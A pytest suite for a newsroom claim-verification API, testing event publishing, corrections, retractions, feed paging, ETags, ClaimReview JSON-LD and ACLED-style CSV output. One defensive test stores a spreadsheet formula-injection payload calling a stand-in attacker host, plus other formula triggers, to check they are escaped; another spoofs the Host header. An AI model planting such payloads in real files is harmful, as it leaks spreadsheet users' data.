"""Events: publishing, corrections, retractions, the feed's paging, filters, ETags and formats."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from schemas.events import ACLED_COLUMNS, RATING_VALUES
from tests.newsroom import (
    PLACE,
    drain,
    give_evidence,
    move,
    publish,
    read_feed,
    reviewed_claim,
)
from verify.extensions import db
from verify.models import Claim, Event, EventVersion, Evidence, Source, WebhookDelivery
from verify.workflow import VERDICTS

CLAIM = "The MNDAA captured the northeastern command headquarters in Lashio"


@pytest.fixture
def documents(client, auth, source) -> list[dict]:
    """Two reports from the test wire, with URLs."""
    stored = []
    for number, text in enumerate(
        ("Fighters took the headquarters, residents said.", "The army lost contact with it.")
    ):
        response = client.post(
            "/api/v1/documents",
            json={
                "source_id": source["id"],
                "text": text,
                "title": f"Report {number}",
                "url": f"https://wire.example.org/{number}",
                "published_at": "2024-08-04T06:00:00Z",
            },
            headers=auth("admin"),
        )
        stored.append(response.json)
    return stored


@pytest.fixture
def published(client, auth, documents) -> dict:
    """A claim with evidence, published with every publication field; returns its event."""
    claim_id = reviewed_claim(client, auth, CLAIM, claimant="MNDAA")
    give_evidence(claim_id, [documents[1]["id"], documents[0]["id"]])
    db.session.get(Claim, claim_id).confidence = 0.72
    db.session.commit()
    publish(
        client,
        auth,
        claim_id,
        rating="partly_supported",
        reason="two origins; 'fully' only by the claimant",
        rating_explanation="The capture is corroborated; 'fully' comes only from the MNDAA.",
        actors=["MNDAA", "Military of Myanmar"],
        place=PLACE,
        event_date="2024-08-03",
        event_date_precision="day",
        fatalities=4,
        appearances=["https://social.example.org/mndaa/statement"],
        claim_published_at="2024-08-03T14:00:00Z",
    )
    event = db.session.execute(db.select(Event).filter_by(claim_id=claim_id)).scalar_one()
    return {"claim": claim_id, "event": event.id}


def _event(client, auth, event_id, role="reader", **headers):
    return client.get(f"/api/v1/events/{event_id}", headers=auth(role, **headers))


def test_does_publishing_make_an_event_with_what_the_reviewer_said(client, auth, published):
    item = _event(client, auth, published["event"]).json
    assert item["version"] == 1 and item["change"] == "event.published"
    assert item["claim_id"] == published["claim"] and item["claim"] == CLAIM
    assert (item["rating"], item["confidence"]) == ("partly_supported", 0.72)
    assert item["rating_explanation"].startswith("The capture is corroborated")
    assert item["actors"] == ["MNDAA", "Military of Myanmar"]
    assert item["place"] == PLACE
    assert (item["event_date"], item["event_date_precision"]) == ("2024-08-03", "day")
    assert item["fatalities"] == 4 and item["claimant"] == "MNDAA"
    assert item["claim_published_at"].startswith("2024-08-03T14:00:00")
    # The newest successful run's documents, best first, once each.
    assert [(link["title"], link["url"], link["source"]) for link in item["evidence"]] == [
        ("Report 1", "https://wire.example.org/1", "Test Wire"),
        ("Report 0", "https://wire.example.org/0", "Test Wire"),
    ]
    assert item["published_at"] == item["changed_at"]


def test_is_the_confidence_left_empty_until_the_engine_gives_one(client, auth):
    claim_id = reviewed_claim(client, auth, "Shelling hit the Hsipaw market")
    publish(client, auth, claim_id)
    item = read_feed(client, auth)["items"][0]
    assert item["confidence"] is None and item["evidence"] == [] and item["place"] is None


def test_does_a_correction_add_a_version_that_keeps_what_it_does_not_change(
    client, auth, published
):
    assert move(client, auth, published["claim"], "needs_review", reason="new report").status_code
    publish(
        client,
        auth,
        published["claim"],
        rating="supported",
        reason="the military confirmed it",
        rating_explanation="Both sides now confirm the capture.",
        fatalities=None,
    )
    versions = client.get(
        f"/api/v1/events/{published['event']}/versions", headers=auth("reader")
    ).json["items"]
    assert [(v["version"], v["change"], v["rating"]) for v in versions] == [
        (1, "event.published", "partly_supported"),
        (2, "event.corrected", "supported"),
    ]
    corrected = versions[1]
    assert corrected["place"] == PLACE and corrected["actors"] == versions[0]["actors"]
    assert corrected["fatalities"] is None and corrected["reason"] == "the military confirmed it"
    assert corrected["published_at"] == versions[0]["published_at"]
    assert _event(client, auth, published["event"]).json == corrected
    assert [i["version"] for i in read_feed(client, auth)["items"]] == [1, 2]


def test_does_a_retraction_leave_a_tombstone_and_dismiss_the_claim(client, auth, published):
    event_id = published["event"]
    etag = _event(client, auth, event_id).headers["ETag"]
    path = f"/api/v1/events/{event_id}/retract"
    missing = client.post(path, json={"reason": "wrong town"}, headers=auth("reviewer"))
    assert missing.status_code == 428
    response = client.post(
        path, json={"reason": "wrong town"}, headers=auth("reviewer", **{"If-Match": etag})
    )
    assert response.status_code == 200, response.json
    tombstone = response.json
    assert (tombstone["version"], tombstone["change"]) == (2, "event.retracted")
    assert tombstone["claim"] is None and tombstone["place"] is None
    assert tombstone["reason"] == "wrong town"
    assert _event(client, auth, event_id).json == tombstone
    stale = client.post(
        path, json={"reason": "again"}, headers=auth("reviewer", **{"If-Match": etag})
    )
    assert stale.status_code == 412
    again = client.post(
        path,
        json={"reason": "again"},
        headers=auth("reviewer", **{"If-Match": response.headers["ETag"]}),
    )
    assert again.status_code == 409
    claim = client.get(f"/api/v1/claims/{published['claim']}", headers=auth("admin")).json
    assert claim["status"] == "dismissed"
    history = client.get(f"/api/v1/claims/{published['claim']}/history", headers=auth("admin"))
    assert history.json["items"][-1]["reason"] == "retracted: wrong town"
    assert [i["change"] for i in read_feed(client, auth)["items"]] == [
        "event.published",
        "event.retracted",
    ]
    deleted = client.get("/api/v1/events/deleted", headers=auth("reader")).json["items"]
    assert [(d["event_id"], d["reason"]) for d in deleted] == [(event_id, "wrong town")]


def test_does_a_retraction_take_back_what_the_sources_learned(client, auth, documents, source):
    claim_id = reviewed_claim(client, auth, "Resistance forces shot down a helicopter")
    give_evidence(claim_id, [documents[0]["id"]])
    for evidence in db.session.query(Evidence).filter_by(claim_id=claim_id):
        evidence.stance = "supports"
    db.session.commit()
    publish(client, auth, claim_id, rating="supported")
    wire = db.session.get(Source, source["id"])
    assert (wire.agree_count, wire.disagree_count) == (1, 0)
    event_id = db.session.execute(db.select(Event.id).filter_by(claim_id=claim_id)).scalar_one()
    response = client.post(
        f"/api/v1/events/{event_id}/retract",
        json={"reason": "the video was older"},
        headers=auth("reviewer", **{"If-Match": _event(client, auth, event_id).headers["ETag"]}),
    )
    assert response.status_code == 200
    db.session.refresh(wire)
    assert (wire.agree_count, wire.disagree_count) == (0, 0)


def test_does_dismissing_a_published_claim_retract_its_event(client, auth, published):
    response = move(client, auth, published["claim"], "dismissed", reason="duplicate")
    assert response.status_code == 200
    item = _event(client, auth, published["event"]).json
    assert (item["change"], item["reason"]) == ("event.retracted", "duplicate")


def test_does_publishing_again_after_a_retraction_make_a_new_event(client, auth, published):
    move(client, auth, published["claim"], "dismissed", reason="premature")
    move(client, auth, published["claim"], "needs_review", reason="confirmed later")
    publish(client, auth, published["claim"], rating="supported")
    events = db.session.execute(
        db.select(Event).filter_by(claim_id=published["claim"]).order_by(Event.id)
    ).scalars()
    assert [(e.id == published["event"], e.retracted_at is not None) for e in events] == [
        (True, True),
        (False, False),
    ]


def test_does_reopening_keep_the_published_version(client, auth, published):
    move(client, auth, published["claim"], "needs_review", reason="checking a new report")
    assert _event(client, auth, published["event"]).json["version"] == 1
    assert len(read_feed(client, auth)["items"]) == 1


def test_does_a_retraction_of_a_reopened_claim_leave_its_status(client, auth, published):
    move(client, auth, published["claim"], "needs_review")
    move(client, auth, published["claim"], "pending", reason="re-run")
    etag = _event(client, auth, published["event"]).headers["ETag"]
    response = client.post(
        f"/api/v1/events/{published['event']}/retract",
        json={"reason": "source withdrew the report"},
        headers=auth("reviewer", **{"If-Match": etag}),
    )
    assert response.status_code == 200
    assert db.session.get(Claim, published["claim"]).status == "pending"


BAD_PUBLICATIONS = [
    ({"to": "dismissed", "actors": ["TNLA"]}, "actors"),
    ({"event_date": "2024-08-03"}, "event_date_precision"),
    ({"event_date_precision": "week"}, "event_date"),
    ({"place": {"latitude": 22.9}}, "place"),
    ({"place": {"geo_precision": 4}}, "place"),
    ({"place": {}}, "place"),
    ({"fatalities": -1}, "fatalities"),
    ({"event_date": "3 Aug", "event_date_precision": "day"}, "event_date"),
    ({"appearances": ["ftp://x.org"]}, "appearances"),
    ({"actors": [""]}, "actors"),
]


def test_are_bad_publication_fields_refused_with_nothing_stored(client, auth):
    claim_id = reviewed_claim(client, auth, "Drones struck the Kyaukme police station")
    etag = client.get(f"/api/v1/claims/{claim_id}", headers=auth("admin")).headers["ETag"]
    for fields, field in BAD_PUBLICATIONS:
        response = client.post(
            f"/api/v1/claims/{claim_id}/transitions",
            json={"to": "published", "rating": "supported", **fields},
            headers=auth("reviewer", **{"If-Match": etag}),
        )
        assert response.status_code == 422, (fields, response.json)
        assert field in response.json["errors"], (fields, response.json)
        db.session.expire_all()
        assert db.session.get(Claim, claim_id).status == "needs_review", fields
        assert db.session.query(EventVersion).count() == 0, fields


def test_does_the_feed_page_with_an_opaque_cursor(client, auth):
    for number in range(5):
        publish(client, auth, reviewed_claim(client, auth, f"Clashes reported in ward {number}"))
    first = client.get("/api/v1/events?limit=2", headers=auth("reader"))
    assert [i["claim"][-1] for i in first.json["items"]] == ["0", "1"]
    assert first.json["has_more"] is True
    assert (
        first.headers["Link"] == f'</api/v1/events?limit=2&cursor={first.json["next"]}>; rel="next"'
    )
    items, cursor = drain(client, auth, cursor=first.json["next"], limit=2)
    assert [i["claim"][-1] for i in items] == ["2", "3", "4"]
    empty = read_feed(client, auth, cursor=cursor)
    assert (empty["items"], empty["next"], empty["has_more"]) == ([], cursor, False)
    publish(client, auth, reviewed_claim(client, auth, "Clashes reported in ward 5"))
    assert [i["claim"] for i in read_feed(client, auth, cursor=cursor)["items"]] == [
        "Clashes reported in ward 5"
    ]


BAD_QUERIES = [
    ("limit=501", "limit"),
    ("limit=0", "limit"),
    ("cursor=abc", "cursor"),
    ("cursor=eyJ0IjowLCJjIjozfQ", "cursor"),
    ("rating=true", "rating"),
    ("from=yesterday", "from"),
    ("changed_since=soon", "changed_since"),
    ("format=xml", "format"),
    ("colour=red", "colour"),
]


def test_are_bad_feed_queries_refused(client, auth):
    for query, field in BAD_QUERIES:
        response = client.get(f"/api/v1/events?{query}", headers=auth("reader"))
        assert response.status_code == 422, query
        assert field in response.json["errors"], (query, response.json)
    deleted = client.get("/api/v1/events/deleted?since=later", headers=auth("reader"))
    assert deleted.status_code == 422 and "since" in deleted.json["errors"]


def test_does_if_none_match_answer_304_until_something_changes(client, auth, published):
    first = client.get("/api/v1/events", headers=auth("reader"))
    etag = first.headers["ETag"]
    again = client.get("/api/v1/events", headers=auth("reader", **{"If-None-Match": etag}))
    assert again.status_code == 304 and again.data == b"" and again.headers["ETag"] == etag
    as_csv = client.get(
        "/api/v1/events?format=csv", headers=auth("reader", **{"If-None-Match": etag})
    )
    assert as_csv.status_code == 200
    event_etag = _event(client, auth, published["event"]).headers["ETag"]
    assert (
        _event(client, auth, published["event"], **{"If-None-Match": event_etag}).status_code == 304
    )
    move(client, auth, published["claim"], "needs_review")
    publish(client, auth, published["claim"], rating="supported")
    changed = client.get("/api/v1/events", headers=auth("reader", **{"If-None-Match": etag}))
    assert changed.status_code == 200 and changed.headers["ETag"] != etag
    assert len(changed.json["items"]) == 2
    assert (
        _event(client, auth, published["event"], **{"If-None-Match": event_etag}).status_code == 200
    )


def test_do_filters_also_match_the_change_that_moves_an_event_out(client, auth):
    claim_id = reviewed_claim(client, auth, "The junta retook Nawnghkio")
    publish(
        client,
        auth,
        claim_id,
        rating="refuted",
        actors=["Military of Myanmar"],
        place={"name": "Nawnghkio", "admin1": "Shan", "country": "Myanmar"},
        event_date="2024-07-10",
        event_date_precision="week",
    )
    other = reviewed_claim(client, auth, "The TNLA shelled Kyaukme")
    publish(
        client,
        auth,
        other,
        rating="unverified",
        actors=["TNLA"],
        place={"name": "Kyaukme", "admin1": "Shan", "country": "Myanmar"},
        event_date="2024-08-20",
        event_date_precision="day",
    )
    moment = datetime.now(UTC).isoformat()
    move(client, auth, claim_id, "needs_review")
    publish(
        client,
        auth,
        claim_id,
        rating="supported",
        actors=["TNLA"],
        place={"name": "Mogok", "admin1": "Mandalay", "country": "Myanmar"},
        event_date="2024-09-01",
        event_date_precision="month",
    )

    def seen(**query):
        return [(i["claim"][:9], i["version"]) for i in drain(client, auth, **query)[0]]

    nawnghkio, kyaukme = "The junta", "The TNLA "
    assert seen(rating="refuted") == [(nawnghkio, 1), (nawnghkio, 2)]
    assert seen(rating="supported") == [(nawnghkio, 2)]
    assert seen(actor="military of myanmar") == [(nawnghkio, 1), (nawnghkio, 2)]
    assert seen(actor="TNLA") == [(kyaukme, 1), (nawnghkio, 2)]
    assert seen(place="SHAN") == [(nawnghkio, 1), (kyaukme, 1), (nawnghkio, 2)]
    assert seen(place="Mandalay") == [(nawnghkio, 2)]
    assert seen(**{"from": "2024-08-01", "to": "2024-08-31"}) == [(kyaukme, 1)]
    assert seen(**{"from": "2024-07-01", "to": "2024-07-31"}) == [(nawnghkio, 1), (nawnghkio, 2)]
    assert seen(changed_since=moment) == [(nawnghkio, 2)]
    assert seen(rating="refuted", place="mogok") == [(nawnghkio, 2)]


def _with_publisher(app):
    app.config["PUBLISHER_NAME"] = "Desk Verify"
    app.config["VERIFY_PUBLIC_URL"] = "https://verify.example.org"


@pytest.fixture
def publisher(app):
    saved = {key: app.config[key] for key in ("PUBLISHER_NAME", "VERIFY_PUBLIC_URL")}
    _with_publisher(app)
    yield
    app.config.update(saved)


def test_is_claim_review_complete_for_every_rating(client, auth, publisher):
    for rating in VERDICTS:
        claim_id = reviewed_claim(client, auth, f"Rebels destroyed bridge {rating}", claimant="PDF")
        publish(
            client,
            auth,
            claim_id,
            rating=rating,
            rating_explanation="Residents and a local outlet agree.",
            appearances=["https://social.example.org/post/1", "https://news.example.org/a"],
            claim_published_at="2024-08-02T09:30:00Z",
        )
        event_id = db.session.execute(db.select(Event.id).filter_by(claim_id=claim_id)).scalar_one()
        response = _event(client, auth, event_id, Accept="application/ld+json")
        assert response.mimetype == "application/ld+json"
        review = response.json
        value, name = RATING_VALUES[rating]
        assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
        assert review["claimReviewed"] == f"Rebels destroyed bridge {rating}"
        assert review["reviewRating"] == {
            "@type": "Rating",
            "ratingValue": value,
            "bestRating": 5,
            "worstRating": 1,
            "alternateName": name,
        }
        assert review["reviewBody"] == "Residents and a local outlet agree."
        assert review["itemReviewed"] == {
            "@type": "Claim",
            "author": {"name": "PDF"},
            "datePublished": "2024-08-02T09:30:00+00:00",
            "appearance": [
                {"@type": "CreativeWork", "url": "https://social.example.org/post/1"},
                {"@type": "CreativeWork", "url": "https://news.example.org/a"},
            ],
        }
        assert review["author"] == {
            "@type": "Organization",
            "name": "Desk Verify",
            "url": "https://verify.example.org",
        }
        assert review["url"] == f"https://verify.example.org/api/v1/events/{event_id}"
        assert datetime.fromisoformat(review["datePublished"]).tzinfo is not None
    # Truer ratings never score lower, and the scale's ends are used.
    values = [RATING_VALUES[rating][0] for rating in ("refuted", "disputed", "supported")]
    assert values == sorted(values) and (values[0], values[-1]) == (1, 5)
    feed = client.get("/api/v1/events", headers=auth("reader", Accept="application/ld+json"))
    assert feed.json["@type"] == "DataFeed"
    elements = feed.json["dataFeedElement"]
    assert [element["item"]["reviewRating"]["alternateName"] for element in elements] == [
        RATING_VALUES[rating][1] for rating in VERDICTS
    ]
    assert all(element["@type"] == "DataFeedItem" for element in elements)


def test_does_claim_review_leave_out_what_is_not_known(client, auth):
    claim_id = reviewed_claim(client, auth, "Fighting closed the Muse border gate")
    publish(client, auth, claim_id, rating="unverified")
    review = client.get("/api/v1/events?format=jsonld", headers=auth("reader")).json[
        "dataFeedElement"
    ][0]["item"]
    assert "author" not in review and "reviewBody" not in review
    assert review["itemReviewed"] == {"@type": "Claim"}


def test_is_a_retraction_a_deleted_feed_item_in_claim_review(client, auth, published):
    move(client, auth, published["claim"], "dismissed", reason="duplicate")
    elements = client.get(
        "/api/v1/events", headers=auth("reader", Accept="application/ld+json")
    ).json["dataFeedElement"]
    assert "dateModified" in elements[0] and "dateDeleted" in elements[1]
    assert elements[1]["item"]["url"].endswith(f"/api/v1/events/{published['event']}")


def test_does_the_csv_parse_with_the_acled_columns(client, auth, published):
    move(client, auth, published["claim"], "needs_review")
    publish(client, auth, published["claim"], rating="supported", fatalities=None)
    move(client, auth, published["claim"], "dismissed", reason="duplicate")
    by_accept = client.get("/api/v1/events", headers=auth("reader", Accept="text/csv"))
    by_query = client.get("/api/v1/events?format=csv", headers=auth("reader"))
    assert by_accept.mimetype == "text/csv" and by_accept.data == by_query.data
    reader = csv.DictReader(io.StringIO(by_accept.get_data(as_text=True)))
    assert tuple(reader.fieldnames) == ACLED_COLUMNS
    published_row, corrected, tombstone = list(reader)
    assert published_row == {
        "event_id": str(published["event"]),
        "event_date": "2024-08-03",
        "time_precision": "1",
        "event_type": "",
        "sub_event_type": "",
        "actor1": "MNDAA",
        "assoc_actor_1": "",
        "actor2": "Military of Myanmar",
        "country": "Myanmar",
        "admin1": "Shan",
        "admin2": "Lashio District",
        "location": "Lashio",
        "latitude": "22.9359",
        "longitude": "97.7498",
        "geo_precision": "1",
        "source": "Test Wire",
        "source_scale": "",
        "notes": CLAIM,
        "fatalities": "4",
        "timestamp": published_row["timestamp"],
        "verify_rating": "partly_supported",
        "verify_confidence": "0.72",
        "verify_url": f"http://localhost/api/v1/events/{published['event']}",
        "verify_change": "published",
    }
    assert int(published_row["timestamp"]) <= int(corrected["timestamp"])
    assert (corrected["verify_change"], corrected["fatalities"]) == ("corrected", "")
    assert tombstone["verify_change"] == "retracted" and tombstone["notes"] == ""
    deleted = client.get("/api/v1/events/deleted?format=csv", headers=auth("reader"))
    rows = list(csv.DictReader(io.StringIO(deleted.get_data(as_text=True))))
    assert rows == [
        {
            "event_id": str(published["event"]),
            "deleted_timestamp": tombstone["timestamp"],
            "reason": "duplicate",
        }
    ]


def test_does_deleted_take_since_as_a_time_or_unix_seconds(client, auth, published):
    move(client, auth, published["claim"], "dismissed", reason="duplicate")
    later = int(datetime.now(UTC).timestamp()) + 3600
    assert client.get("/api/v1/events/deleted?since=0", headers=auth("reader")).json["items"]
    assert (
        client.get(f"/api/v1/events/deleted?since={later}", headers=auth("reader")).json["items"]
        == []
    )
    assert (
        client.get(
            "/api/v1/events/deleted?since=2999-01-01T00:00:00Z", headers=auth("reader")
        ).json["items"]
        == []
    )


def test_is_an_unknown_event_a_404(client, auth):
    assert client.get("/api/v1/events/999", headers=auth("reader")).status_code == 404
    assert client.get("/api/v1/events/999/versions", headers=auth("reader")).status_code == 404
    response = client.post(
        "/api/v1/events/999/retract",
        json={"reason": "x"},
        headers=auth("reviewer", **{"If-Match": '"999-1"'}),
    )
    assert response.status_code == 404


def test_is_a_failed_publication_written_nowhere(client, auth, published):
    # A stale If-Match: neither a version nor a webhook delivery may be left behind.
    client.post(
        "/api/v1/webhooks",
        json={"url": "https://hooks.example.org/x", "event_types": ["event.corrected"]},
        headers=auth("reader"),
    )
    move(client, auth, published["claim"], "needs_review")
    stale = f'"{published["claim"]}-1"'
    response = client.post(
        f"/api/v1/claims/{published['claim']}/transitions",
        json={"to": "published", "rating": "refuted"},
        headers=auth("reviewer", **{"If-Match": stale}),
    )
    assert response.status_code == 412
    assert db.session.query(EventVersion).count() == 1
    assert db.session.query(WebhookDelivery).count() == 0


@pytest.fixture
def page_cache(app):
    """The feed's page cache turned on, empty, for this test only."""
    app.config["FEED_CACHE_MB"] = 1
    app.extensions.pop("feed_pages", None)
    yield
    app.extensions.pop("feed_pages", None)
    app.config["FEED_CACHE_MB"] = 0


def test_are_only_full_pages_kept_in_memory(app, client, auth, page_cache):
    for number in range(3):
        publish(client, auth, reviewed_claim(client, auth, f"Clashes reported in block {number}"))
    full = client.get("/api/v1/events?limit=2", headers=auth("reader"))
    again = client.get("/api/v1/events?limit=2", headers=auth("reader"))
    assert again.data == full.data and again.headers["ETag"] == full.headers["ETag"]
    partial = read_feed(client, auth, limit=2, cursor=full.json["next"])
    assert [item["claim"][-1] for item in partial["items"]] == ["2"]
    cache = app.extensions["feed_pages"]
    assert [key[2] for key in cache.pages] == [2]  # the full page only, by its limit
    as_csv = client.get("/api/v1/events?limit=2&format=csv", headers=auth("reader"))
    assert len(list(csv.DictReader(io.StringIO(as_csv.get_data(as_text=True))))) == 2
    # Pages leave memory, oldest first, once the budget is spent.
    cache.max_bytes = cache.size
    client.get("/api/v1/events?limit=1", headers=auth("reader"))
    assert [key[2] for key in cache.pages] == [1]


def test_is_every_rendering_of_a_cached_page_counted_and_one_kept_per_format(
    app, client, auth, page_cache, monkeypatch
):
    # The embedded default, where links follow the host the API was reached at.
    monkeypatch.setitem(app.config, "VERIFY_PUBLIC_URL", "")
    monkeypatch.setitem(app.config, "BROKER_URL", None)
    for number in range(3):
        publish(client, auth, reviewed_claim(client, auth, f"Clashes reported in ward {number}"))
    client.get("/api/v1/events?limit=2", headers=auth("reader"))
    cache = app.extensions["feed_pages"]
    (page,) = cache.pages.values()
    stored = cache.size
    as_csv = client.get("/api/v1/events?limit=2&format=csv", headers=auth("reader")).data
    assert cache.size == stored + len(as_csv)
    # Under many Host names (the embedded default uses the host it is reached at), one
    # rendering per format is kept, and what is kept is what is counted.
    for number in range(20):
        client.get(
            "/api/v1/events?limit=2&format=csv",
            headers=auth("reader", Host=f"host-{number}.example"),
        )
    assert sorted(page.rendered) == ["csv", "json"]
    assert cache.size == stored + len(page.rendered["csv"][1])
    assert page.rendered["csv"][0] == "http://host-19.example/"


def test_does_the_public_url_decide_the_links_whatever_the_host_header(
    app, client, auth, monkeypatch
):
    publish(client, auth, reviewed_claim(client, auth, "Clashes reported near Hsipaw"))
    spoofed = auth("reader", Host="attacker.example")
    monkeypatch.setitem(app.config, "VERIFY_PUBLIC_URL", "https://verify.desk.example/")
    body = client.get("/api/v1/events?format=csv", headers=spoofed).get_data(as_text=True)
    review = client.get("/api/v1/events?format=jsonld", headers=spoofed).json
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["verify_url"].startswith("https://verify.desk.example/api/v1/events/")
    assert "attacker" not in json.dumps(review)
    # A deployment (a broker of its own) without a public URL gives paths, not the caller's host.
    monkeypatch.setitem(app.config, "BROKER_URL", "redis://127.0.0.1:6379/0")
    monkeypatch.setitem(app.config, "VERIFY_PUBLIC_URL", "")
    body = client.get("/api/v1/events?format=csv", headers=spoofed).get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["verify_url"].startswith("/api/v1/events/")


def test_are_csv_cells_that_a_spreadsheet_would_run_made_inert(client, auth):
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
    claim_id = reviewed_claim(client, auth, formula)
    publish(
        client,
        auth,
        claim_id,
        rating="supported",
        actors=["+SUM(1,2)", "@cmd"],
        place={**PLACE, "name": "-2+3", "admin1": "\tShan", "longitude": -97.75},
    )
    move(client, auth, claim_id, "dismissed", reason="=1+1 a duplicate")
    body = client.get("/api/v1/events?format=csv", headers=auth("reader")).get_data(as_text=True)
    published_row = next(csv.DictReader(io.StringIO(body)))
    assert published_row["notes"] == "'" + formula
    assert (published_row["actor1"], published_row["actor2"]) == ("'+SUM(1,2)", "'@cmd")
    assert (published_row["location"], published_row["admin1"]) == ("'-2+3", "'\tShan")
    assert published_row["longitude"] == "-97.75"  # a number, not text: left as it is
    deleted = client.get("/api/v1/events/deleted?format=csv", headers=auth("reader"))
    (row,) = csv.DictReader(io.StringIO(deleted.get_data(as_text=True)))
    assert row["reason"] == "'=1+1 a duplicate"
    # JSON carries the text as it was written.
    assert client.get("/api/v1/events", headers=auth("reader")).json["items"][0]["claim"] == formula


def test_does_a_reader_get_only_the_tombstone_of_a_retracted_event(client, auth, published):
    move(client, auth, published["claim"], "dismissed", reason="the photo was from 2019")
    path = f"/api/v1/events/{published['event']}/versions"
    (tombstone,) = client.get(path, headers=auth("reader")).json["items"]
    assert tombstone["change"] == "event.retracted"
    assert tombstone["reason"] == "the photo was from 2019" and tombstone["changed_at"]
    assert CLAIM not in json.dumps(tombstone)
    staff = client.get(path, headers=auth("reviewer")).json["items"]
    assert [v["change"] for v in staff] == ["event.published", "event.retracted"]
    assert staff[0]["claim"] == CLAIM


def test_do_readers_see_roles_not_key_names(app, client, auth, published, monkeypatch):
    claim_path = f"/api/v1/claims/{published['claim']}"
    shown = client.get(claim_path, headers=auth("reader")).json
    assert shown["submitted_by"] == "submitter"
    history = client.get(f"{claim_path}/history", headers=auth("reader")).json["items"]
    assert {change["actor"] for change in history} <= {"submitter", "reviewer", "system"}
    assert "reviewer" in {change["actor"] for change in history}
    monkeypatch.setitem(app.config, "PUBLISHER_NAME", "Desk Verify")
    history = client.get(f"{claim_path}/history", headers=auth("reader")).json["items"]
    assert "Desk Verify" in {change["actor"] for change in history}
    assert not {"reviewer-key", "submitter-key"} & {change["actor"] for change in history}
    # Staff see the accounts.
    staff = client.get(claim_path, headers=auth("reviewer")).json
    assert staff["submitted_by"] == "submitter-key"
